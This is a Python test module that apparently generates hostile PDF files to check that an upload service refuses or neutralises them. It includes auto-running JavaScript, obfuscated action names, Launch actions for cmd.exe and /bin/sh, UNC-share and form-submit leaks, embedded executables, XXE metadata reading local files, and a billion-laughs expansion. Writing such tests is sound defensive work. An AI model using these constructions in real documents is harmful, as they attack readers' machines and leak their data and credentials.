"""PDF files that run something, lead somewhere, or carry something."""

# fmt: off
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, String

from tests import uploads
from tests.hostile.attack import Attack, Bait, Fate, Target
from tests.hostile.paper_attacks import laughs
from tests.hostile.pdf_making import (
    SCRIPT,
    Make,
    Row,
    annotated,
    changed,
    drawn_form,
    form_field,
    in_root,
    linked,
    on_page,
    script,
    tagged,
)
from tests.hostile.pdf_structure_attacks import structure_attacks


def pdf_attacks() -> Iterator[Attack]:
    rows = (*_that_run(), *_that_lead(), *_that_carry(), *structure_attacks())
    for name, tries, fate, make in rows:
        yield Attack(f"pdf-{name}", tries, Target.FILE, fate, make, file_name="Plan.pdf")


def _that_run() -> Iterator[Row]:
    yield ("script-open", "runs a script when it is opened", Fate.REFUSED, in_root(Name.OpenAction, lambda pdf, bait: script()))
    yield ("script-named", "runs a script that is only named", Fate.REFUSED, in_root(Name.Names, lambda pdf, bait: Dictionary(JavaScript=Dictionary(Names=[String("a"), script()]))))
    yield ("script-stream", "keeps its script in a stream", Fate.REFUSED, in_root(Name.OpenAction, lambda pdf, bait: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))))
    yield (
        "script-escaped",
        "writes what it does so that nobody recognises it",
        Fate.REFUSED,
        lambda bait: in_root(Name.OpenAction, lambda pdf, bait: script())(bait).replace(b"/JavaScript", b"/J#61v#61Script"),
    )
    yield ("script-in-stream", "has a stream for what it does", Fate.REFUSED, in_root(Name.OpenAction, lambda pdf, bait: pdf.make_stream(b"", S=Name.JavaScript, JS=String(SCRIPT))))
    yield ("script-close-in-stream", "does so when it is closed", Fate.REFUSED, in_root(Name.AA, lambda pdf, bait: pdf.make_stream(b"", WC=script())))
    yield ("script-close", "runs a script when it is closed", Fate.REFUSED, in_root(Name.AA, lambda pdf, bait: Dictionary(WC=script())))
    yield ("script-page", "runs a script when a page is shown", Fate.REFUSED, on_page(Name.AA, lambda pdf, bait: Dictionary(O=script())))
    yield "script-link", "runs a script behind a link", Fate.REFUSED, linked(lambda pdf, bait: script())
    yield ("script-hover", "runs a script when the pointer passes", Fate.REFUSED, annotated(AA=lambda pdf, bait: Dictionary(E=script())))
    yield ("script-next", "runs a script after something harmless", Fate.REFUSED, linked(lambda pdf, bait: Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=script())))
    yield (
        "script-next-many",
        "hides it among what comes after",
        Fate.REFUSED,
        linked(lambda pdf, bait: Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit], Next=[Dictionary(S=Name.Named, N=Name.NextPage), script()])),
    )
    yield "script-outline", "runs a script behind a bookmark", Fate.REFUSED, changed(_bookmarked)
    yield ("script-field", "runs a script when a field is filled in", Fate.REFUSED, changed(lambda pdf, bait: form_field(pdf, AA=Dictionary(K=script()))))
    yield "script-field-child", "hides the field below another", Fate.REFUSED, changed(_child_field)
    yield ("script-rendition", "runs a script by a film", Fate.REFUSED, annotated(Subtype=lambda pdf, bait: Name.Screen, A=lambda pdf, bait: Dictionary(S=Name.Rendition, JS=String(SCRIPT))))
    yield ("launch", "starts a program", Fate.REFUSED, linked(lambda pdf, bait: Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))))
    yield ("launch-open", "starts a program when it is opened", Fate.REFUSED, in_root(Name.OpenAction, lambda pdf, bait: Dictionary(S=Name.Launch, F=String("/bin/sh"))))
    yield (
        "form-xfa",
        "has a form of the kind that runs scripts",
        Fate.REFUSED,
        in_root(Name.AcroForm, lambda pdf, bait: Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp><script>a()</script></xdp:xdp>"))),
    )
    yield ("form-submit", "sends what is filled in elsewhere", Fate.REFUSED, changed(lambda pdf, bait: form_field(pdf, A=Dictionary(S=Name.SubmitForm, F=String(bait.address)))))
    yield ("form-import", "fills a form with a file of the machine", Fate.REFUSED, changed(lambda pdf, bait: form_field(pdf, A=Dictionary(S=Name.ImportData, F=String(bait.file)))))
    yield ("rich-media", "plays something that runs", Fate.REFUSED, annotated(Subtype=lambda pdf, bait: Name.RichMedia, RichMediaContent=lambda pdf, bait: Dictionary()))
    yield (
        "model",
        "shows a model that runs a script",
        Fate.REFUSED,
        annotated(Subtype=lambda pdf, bait: Name("/3D"), **{"3DD": lambda pdf, bait: pdf.make_stream(b"U3D", OnInstantiate=pdf.make_stream(b"a()"))}),
    )


def _bookmarked(pdf: Pdf, bait: Bait) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("a", 0))
    pdf.Root.Outlines.First.A = script()


def _child_field(pdf: Pdf, bait: Bait) -> None:
    field = form_field(pdf)
    child = pdf.make_indirect(Dictionary(Parent=field, T=String("b"), AA=Dictionary(C=script())))
    field.Kids = Array([child])
    pdf.pages[0].obj.Annots = Array([])


def _that_lead() -> Iterator[Row]:
    yield (
        "goto-share-open",
        "has the reader's machine sign in to another when it is opened",
        Fate.REFUSED,
        on_page(Name.AA, lambda pdf, bait: Dictionary(O=Dictionary(S=Name.GoToR, F=String("\\\\203.0.113.9\\a.pdf"), D=[0, Name.Fit]))),
    )
    yield (
        "goto-embedded-share",
        "does so by a file within a file",
        Fate.REFUSED,
        in_root(Name.OpenAction, lambda pdf, bait: Dictionary(S=Name.GoToE, F=String("\\\\203.0.113.9\\a.pdf"), D=[0, Name.Fit])),
    )
    yield ("uri-open", "opens a web page when it is opened", Fate.REFUSED, in_root(Name.OpenAction, lambda pdf, bait: Dictionary(S=Name.URI, URI=String(bait.address))))
    yield ("goto-other", "leads into a file of the machine", Fate.HARMLESS, linked(lambda pdf, bait: Dictionary(S=Name.GoToR, F=String(bait.file), D=[0, Name.Fit])))
    for name, address in (("script", "javascript:a()"), ("file", "file:///etc/passwd"), ("share", "\\\\203.0.113.9\\a"), ("search", "search-ms:query=a"), ("data", "data:text/html,a")):
        yield (f"uri-{name}", "has something else than a web page behind a link", Fate.HARMLESS, linked(lambda pdf, bait, address=address: Dictionary(S=Name.URI, URI=String(address))))
    yield ("uri-base", "has every address lead elsewhere", Fate.HARMLESS, in_root(Name.URI, lambda pdf, bait: Dictionary(Base=String(bait.address))))
    yield ("named-action", "prints itself when it is clicked", Fate.HARMLESS, linked(lambda pdf, bait: Dictionary(S=Name.Named, N=Name.Print)))
    yield ("hide", "hides what is printed", Fate.HARMLESS, linked(lambda pdf, bait: Dictionary(S=Name.Hide, T=String("a"))))
    yield ("film", "plays a film of elsewhere", Fate.HARMLESS, annotated(Subtype=lambda pdf, bait: Name.Movie, Movie=lambda pdf, bait: Dictionary(F=String(bait.address))))
    yield ("sound", "plays a sound of elsewhere", Fate.HARMLESS, linked(lambda pdf, bait: Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"a", F=String(bait.address)))))
    yield ("capture", "tells where on the web it is from, to be loaded again", Fate.HARMLESS, in_root(Name.SpiderInfo, lambda pdf, bait: Dictionary(V=1.0, C=[Dictionary(URL=String(bait.address))])))


def _filed(pdf: Pdf, name: str, content: bytes) -> Object:
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=pdf.make_stream(content, Type=Name.EmbeddedFile))))


def _that_carry() -> Iterator[Row]:
    yield "file-program", "carries a program", Fate.REFUSED, _embedded("a.exe", b"MZ")
    yield "file-program-renamed", "carries a program by another name", Fate.REFUSED, _embedded("a.txt", b"MZ\x90\x00")
    yield "file-macros", "carries a Word document with macros", Fate.REFUSED, _embedded("a.docm", b"PK\x03\x04")
    yield ("file-pdf", "carries another PDF that runs a script", Fate.HARMLESS, _embedded("a.pdf", in_root(Name.OpenAction, lambda pdf, bait: script())(Bait("", "", ""))))
    yield "file-words", "carries words that no page shows", Fate.HARMLESS, _embedded("a.txt", b"words")
    yield ("file-associated", "carries a file as part of itself", Fate.HARMLESS, in_root(Name.AF, lambda pdf, bait: Array([_filed(pdf, "a.txt", b"words")])))
    yield ("file-of-page", "carries a file as part of a page", Fate.HARMLESS, on_page(Name.AF, lambda pdf, bait: Array([_filed(pdf, "a.txt", b"words")])))
    yield ("file-annotation", "carries a file behind a paper clip", Fate.HARMLESS, annotated(Subtype=lambda pdf, bait: Name.FileAttachment, FS=lambda pdf, bait: _filed(pdf, "a.txt", b"words")))
    yield (
        "file-annotation-program",
        "carries a program behind a paper clip",
        Fate.REFUSED,
        annotated(Subtype=lambda pdf, bait: Name.FileAttachment, FS=lambda pdf, bait: _filed(pdf, "a.exe", b"MZ")),
    )
    yield ("file-of-picture", "carries a file as part of a drawing", Fate.HARMLESS, changed(lambda pdf, bait: drawn_form(pdf, AF=Array([_filed(pdf, "a.txt", b"words")]))))
    for name, tries, make in (
        ("associated", "carries a program as part of itself", in_root(Name.AF, lambda pdf, bait: Array([_filed(pdf, "a.exe", b"MZ")]))),
        ("of-page", "carries a program as part of a page", on_page(Name.AF, lambda pdf, bait: Array([_filed(pdf, "a.exe", b"MZ")]))),
        ("of-picture", "carries a program as part of a drawing", changed(lambda pdf, bait: drawn_form(pdf, AF=Array([_filed(pdf, "a.txt", b"MZ\x90\x00")])))),
        ("anywhere", "carries a program under a key of its own", in_root(Name.Own, lambda pdf, bait: Array([Dictionary(Own=Dictionary(_filed(pdf, "a.exe", b"MZ")))]))),
    ):
        yield f"file-{name}-program", tries, Fate.REFUSED, make
    yield ("carried-by-file", "carries words under a key of its own", Fate.HARMLESS, in_root(Name.Own, lambda pdf, bait: pdf.make_stream(bait.words.encode())))
    yield ("carried-by-page", "carries words on a page that does not show them", Fate.HARMLESS, on_page(Name.Own, lambda pdf, bait: String(bait.words)))
    yield ("carried-packed", "packs the words that a page carries", Fate.HARMLESS, on_page(Name.Own, lambda pdf, bait: Stream(pdf, zlib.compress(bait.words.encode()), {"/Filter": Name.FlateDecode})))
    yield ("carried-by-picture", "carries what a camera said in a drawing", Fate.HARMLESS, changed(lambda pdf, bait: drawn_form(pdf, Metadata=pdf.make_stream(bait.words.encode(), Type=Name.Metadata, Subtype=Name.XML))))
    yield ("preview", "has a small picture of what a page was", Fate.HARMLESS, on_page(Name.Thumb, lambda pdf, bait: pdf.make_stream(bait.words.encode(), Width=9, Height=3, BitsPerComponent=8, ColorSpace=Name.DeviceGray)))
    yield ("portfolio", "is a folder of files", Fate.HARMLESS, in_root(Name.Collection, lambda pdf, bait: Dictionary(View=Name.D)))
    yield ("private", "carries what a program of its own left on a page", Fate.HARMLESS, on_page(Name.PieceInfo, lambda pdf, bait: Dictionary(Own=Dictionary(Private=String(bait.words)))))
    yield ("metadata-file", "has metadata that read a file", Fate.HARMLESS, changed(lambda pdf, bait: tagged(pdf, f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]>', "&b;")))
    yield (
        "metadata-web",
        "has metadata that ask another server",
        Fate.HARMLESS,
        changed(lambda pdf, bait: tagged(pdf, f'<!DOCTYPE a SYSTEM "{bait.address}/a.dtd" [<!ENTITY % b SYSTEM "{bait.address}/b.dtd"> %b;]>', "")),
    )
    yield ("metadata-laughs", "has metadata that grow to gigabytes", Fate.HARMLESS, changed(lambda pdf, bait: tagged(pdf, f"<!DOCTYPE a [{laughs()}]>", "&i;")))
    yield ("locked", "hides what is in it behind a password", Fate.REFUSED, lambda bait: uploads.pdf(encryption=pikepdf.Encryption(owner="o", user="u")))


def _embedded(name: str, content: bytes) -> Make:
    return in_root(Name.Names, lambda pdf, bait: Dictionary(EmbeddedFiles=Dictionary(Names=[String(name), _filed(pdf, name, content)])))
